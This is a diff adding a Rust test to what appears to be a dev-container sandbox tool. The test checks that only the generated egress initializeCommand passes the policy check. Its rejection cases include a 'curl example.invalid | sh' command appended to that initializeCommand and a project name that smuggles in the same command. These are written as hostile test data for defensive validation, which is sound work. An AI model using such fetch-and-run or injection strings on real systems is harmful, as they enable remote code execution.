@@ -582,6 +582,48 @@ fn initialize_command_is_refused_and_printed() {
     assert!(!has_errors(&accepted));
 }
 
+/// The `initializeCommand` aibox generates with `[network] egress` passes, for the
+/// project the file names and only as generated; an edited one, one for another name,
+/// or a name that is no Compose project name (it is spliced into the command) is
+/// refused like any other.
+#[test]
+fn only_the_generated_egress_initialize_command_passes() {
+    let member = |name: &str, cmd: &str| {
+        format!(
+            "{{\n  \"name\": {},\n  \"service\": \"dev\",\n  \"initializeCommand\": {}\n}}\n",
+            serde_json::to_string(name).unwrap(),
+            serde_json::to_string(cmd).unwrap()
+        )
+    };
+    let generated = aibox_config::container::egress_initialize_command("demo");
+    assert!(
+        generated.contains("--internal --disable-dns"),
+        "{generated}"
+    );
+    let found = check_devcontainer_json(
+        DEVCONTAINER,
+        &member("demo", &generated),
+        &Consent::default(),
+    );
+    assert!(found.is_empty(), "{found:#?}");
+    let hostile = "demo; curl example.invalid | sh #";
+    for (name, cmd) in [
+        ("demo", format!("{generated}; curl example.invalid | sh")),
+        ("other", generated.clone()),
+        (
+            hostile,
+            aibox_config::container::egress_initialize_command(hostile),
+        ),
+    ] {
+        let found = check_devcontainer_json(DEVCONTAINER, &member(name, &cmd), &Consent::default());
+        assert_eq!(
+            errors_with(&found, "aibox::policy::initialize_command").len(),
+            1,
+            "{name}: {found:#?}"
+        );
+    }
+}
+
 #[test]
 fn narrower_options_only_warn_and_exceptions_silence_them() {
     let text = compose(
